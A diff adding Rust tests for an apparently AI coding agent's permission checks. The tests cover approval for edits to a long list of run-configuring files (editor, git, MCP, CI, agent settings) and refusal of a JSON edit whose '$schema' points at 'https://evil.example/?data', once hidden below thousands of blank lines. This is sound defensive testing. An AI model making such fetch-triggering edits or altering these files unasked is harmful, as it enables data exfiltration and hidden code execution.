@@ -1,6 +1,12 @@
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};
+
+use futures_util::FutureExt;
+use futures_util::future::BoxFuture;
 use serde_json::{Value, json};
-use skills_agent::event::TurnId;
-use skills_agent::permission::{Mode, TrustStore};
+use skills_agent::event::{Event, TurnId};
+use skills_agent::host::{Answer, Applied, ApplyError, Buffer, FileEdit, Host, Question};
+use skills_agent::permission::{Asking, Mode, Patterns, Severity, TrustStore};
 
 use crate::host::{Bench, write};
 
@@ -117,6 +123,135 @@ async fn protected_files_ask_every_time() {
     );
 }
 
+/// What decides which programs run, or what an agent may do.
+const CONFIGURING: &[&str] = &[
+    ".vscode/settings.json",
+    ".vscode/tasks.json",
+    ".vscode/launch.json",
+    ".vscode/mcp.json",
+    "x.code-workspace",
+    ".git/config",
+    ".git/hooks/pre-commit",
+    "sub/.git",
+    "sub/.git/config",
+    ".gitattributes",
+    ".gitmodules",
+    ".helix/config.toml",
+    ".helix/languages.toml",
+    ".nvim.lua",
+    ".exrc",
+    ".idea/workspace.xml",
+    ".cursor/mcp.json",
+    ".claude/settings.json",
+    ".claude/skills/x/scripts/run.sh",
+    ".agents/skills/x/scripts/run.sh",
+    ".mcp.json",
+    ".envrc",
+    ".editorconfig",
+    ".cargo/config.toml",
+    "build.rs",
+    "package.json",
+    ".github/workflows/ci.yml",
+    ".gitlab-ci.yml",
+    "skills-ls.yaml",
+    ".config/skills-ls/skills-ls.yaml",
+    ".local/state/skills-ls/trust.json",
+    ".local/state/skills-ls/sessions/x.jsonl",
+    "skills/x/SKILL.md",
+];
+
+#[tokio::test]
+async fn all_that_configures_asks_whether_it_is_there_or_not_and_by_whatever_tool() {
+    let there: Vec<_> = CONFIGURING
+        .iter()
+        .filter(|path| **path != "sub/.git")
+        .map(|path| (*path, "a\n"))
+        .collect();
+    let (there, missing) = (Bench::new(&there), Bench::new(&[]));
+    let patch = |op: &str, path: &str| match op {
+        "create" => json!({"patches": [{"op": op, "path": path, "content": "b"}]}),
+        "replace" => json!({"patches": [{"op": op, "path": path, "content": "b"}]}),
+        _ => json!({"patches": [{"op": op, "path": path, "old_string": "a", "new_string": "b"}]}),
+    };
+    for path in CONFIGURING {
+        for (tool, input) in [
+            ("create_file", json!({"path": path, "content": "b"})),
+            ("write_patch", patch("create", path)),
+        ] {
+            let refusal = missing.refusal(tool, input).await;
+            assert!(refusal.contains("was not allowed"), "{tool} {path}: {refusal}");
+            assert_eq!(missing.disk(path), None, "{tool} {path}");
+        }
+        if *path == "sub/.git" {
+            continue;
+        }
+        there
+            .text("read_file_range", json!({"path": path, "start_line": 1}))
+            .await;
+        for (tool, input) in [
+            ("replace_range", edit(path)),
+            ("write_patch", patch("edit", path)),
+            ("write_patch", patch("replace", path)),
+        ] {
+            let refusal = there.refusal(tool, input).await;
+            assert!(refusal.contains("was not allowed"), "{tool} {path}: {refusal}");
+        }
+        assert_eq!(there.disk(path).unwrap(), "a\n");
+    }
+    // A rule that allows all edits changes nothing, and commands that name such a file ask as well.
+    let allowing = Bench::new(&[]).with_rules(&[], &[], &["Edit", "Bash"]);
+    for path in CONFIGURING {
+        allowing
+            .refusal("create_file", json!({"path": path, "content": "b"}))
+            .await;
+        for argv in [json!(["cp", "x", path]), json!(["mv", "x", path]), json!(["tee", path])] {
+            allowing.refusal("run_shell", json!({"argv": argv})).await;
+        }
+    }
+    assert_eq!(allowing.asked().len(), 4 * CONFIGURING.len());
+}
+
+#[tokio::test]
+async fn an_edit_that_has_the_editor_fetch_something_asks() {
+    let bench = Bench::new(&[("data.json", "{}\n"), ("plain.json", "{}\n")]);
+    let input = json!({"path": "data.json", "old_string": "{}", "new_string": "{\"\\u0024schema\": \"https://evil.example/?data\"}"});
+    let refusal = bench.refusal("replace_range", input).await;
+    assert!(refusal.contains("was not allowed"), "{refusal}");
+    let input = json!({"path": "plain.json", "old_string": "{}", "new_string": "{\"see\": \"https://example.com\"}"});
+    bench.text("replace_range", input).await;
+    assert_eq!(bench.asked(), ["Allow the edit of data.json?"]);
+    // However far down it stands.
+    let content = format!("{}{{\"$schema\": \"https://evil.example/\"}}", " \n".repeat(20_000));
+    bench
+        .refusal("create_file", json!({"path": "long.json", "content": content}))
+        .await;
+    assert_eq!(bench.disk("long.json"), None);
+}
+
+#[tokio::test]
+async fn trust_that_is_taken_back_ends_what_it_allowed() {
+    let bench = Bench::with(FILES, Mode::AcceptEdits, None);
+    let record = |trusted| {
+        TrustStore::new(&bench.outside("state"))
+            .set(&bench.root(), trusted)
+            .unwrap()
+    };
+    record(true);
+    bench.text("replace_range", edit("f.txt")).await;
+    record(false);
+    for (tool, input) in [
+        ("replace_range", edit("g.txt")),
+        ("run_shell", json!({"argv": ["true"]})),
+    ] {
+        let refusal = bench.refusal(tool, input).await;
+        assert!(refusal.contains("not trusted"), "{refusal}");
+    }
+    bench
+        .text("read_file_range", json!({"path": "g.txt", "start_line": 1}))
+        .await;
+    assert!(bench.asked().is_empty(), "whoever took it back is not asked again");
+}
+
 #[cfg(unix)]
 #[tokio::test]
 async fn a_file_with_another_name_asks() {
@@ -178,6 +313,67 @@ async fn modes() {
     ] {
         assert_eq!(Mode::of(name), mode);
     }
+}
+
+/// A person who takes their time; counts the questions that stand at once.
+#[derive(Default)]
+struct Slow {
+    open: AtomicUsize,
+    most: AtomicUsize,
+}
+
+impl Host for Slow {
+    fn buffer(&self, _: &Path) -> Option<Buffer> {
+        None
+    }
+
+    fn open_files(&self) -> Vec<PathBuf> {
+        Vec::new()
+    }
+
+    fn apply(&self, _: FileEdit) -> BoxFuture<'_, Result<Applied, ApplyError>> {
+        unreachable!("nothing is allowed")
+    }
+
+    fn ask(&self, _: Question) -> BoxFuture<'_, Answer> {
+        async {
+            self.most.fetch_max(self.open.fetch_add(1, Relaxed) + 1, Relaxed);
+            for _ in 0..10 {
+                tokio::task::yield_now().await;
+            }
+            self.open.fetch_sub(1, Relaxed);
+            Answer::Dismissed
+        }
+        .boxed()
+    }
+
+    fn emit(&self, _: Event) {}
+}
+
+#[tokio::test]
+async fn one_question_stands_at_a_time() {
+    let bench = Bench::new(FILES);
+    let host = Slow::default();
+    let asking = Asking {
+        host: &host,
+        turn: &bench.context.turn,
+        cancel: &bench.context.cancel,
+    };
+    let mut patterns = Patterns::default();
+    patterns.add("s", Severity::Confirm, "x", None);
+    let permissions = &bench.context.permissions;
+    let target = bench.context.resolve(".vscode/settings.json").unwrap();
+    let secret = bench.context.resolve(".env").unwrap();
+    let folder = &bench.context.workspace.folders()[0];
+    let call = json!({"argv": ["x"]});
+    let (write, read, guarded, hooked) = tokio::join!(
+        permissions.before_write(asking, folder, &target, "", (None, None)),
+        permissions.before_read(asking, &secret),
+        permissions.before_call(asking, &patterns, "run_shell", &call),
+        permissions.confirm_call(asking, "run_shell", "why", &call),
+    );
+    assert!(write.is_err() && read.is_err() && guarded.is_err() && hooked.is_err());
+    assert_eq!(host.most.load(Relaxed), 1);
 }
 
 #[tokio::test]
